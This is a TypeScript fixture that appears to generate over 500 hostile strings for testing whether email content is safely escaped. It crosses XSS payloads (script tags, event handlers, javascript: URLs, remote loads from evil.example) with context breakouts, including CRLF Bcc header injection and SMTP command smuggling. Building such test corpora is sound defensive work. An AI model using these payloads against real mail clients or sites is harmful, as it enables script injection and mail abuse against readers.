/** What tries to run a script, by itself. */
const scripts = [
  '<script>window.pwned=1</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=window.pwned=1>',
  '<svg onload=window.pwned=1>',
  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
  '<body onload=window.pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src=javascript:parent.pwned=1></iframe>',
  '<object data=javascript:window.pwned=1></object>',
  '<embed src=javascript:window.pwned=1>',
  '<details open ontoggle=window.pwned=1>',
  '<video><source onerror=window.pwned=1></video>',
  '<input autofocus onfocus=window.pwned=1>',
  '<a href=javascript:window.pwned=1>x</a>',
  '<form action=javascript:window.pwned=1><button>x</button></form>',
  '<math><mtext><style><img src=x onerror=window.pwned=1>',
  '<style>@import "javascript:window.pwned=1";*{background:url(//evil.example/c)}</style>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:window.pwned=1">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<template><script>window.pwned=1</script></template>',
  'javascript:window.pwned=1',
  'data:text/html,<script>parent.pwned=1</script>',
  '${window.pwned=1}{{constructor.constructor("window.pwned=1")()}}',
];

/** What tries to leave the place where it stands: [before, after]. */
const breakouts: readonly (readonly [string, string])[] = [
  ['', ''],
  ['">', ''],
  ["'>", ''],
  ['</title>', ''],
  ['</style>', '<style>'],
  ['</td></tr></table>', ''],
  ['-->', '<!--'],
  ['<!--', ''],
  [']]>', ''],
  ['" onmouseover="window.pwned=1" x="', ''],
  ["' style='x:expression(window.pwned=1)' y='", ''],
  ['</a>', '<a href="'],
  ['\u202e', '\u202c'],
  ['\u0000', '\u0000'],
  ['%3Cscript%3E', '&lt;script&gt;'],
  ['&#60;', '&#x3c;'],
  ['%UNSUBSCRIBE-URL%', '%UNSUBSCRIBE-URL%'],
  ['\\u003c', '\\x3c'],
  ['\r\nBcc: evil@evil.example\r\n\r\n', ''],
  ['\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n', ''],
  ['=?utf-8?B?PHNjcmlwdD4=?=', '=?utf-8?Q?=0D=0ABcc:_evil?='],
];

/** More than 500 texts as people and networks might write them to attack the readers of a mail. */
export const hostileTexts: readonly string[] = scripts.flatMap((script) =>
  breakouts.map(([before, after]) => `${before}${script}${after}`),
);
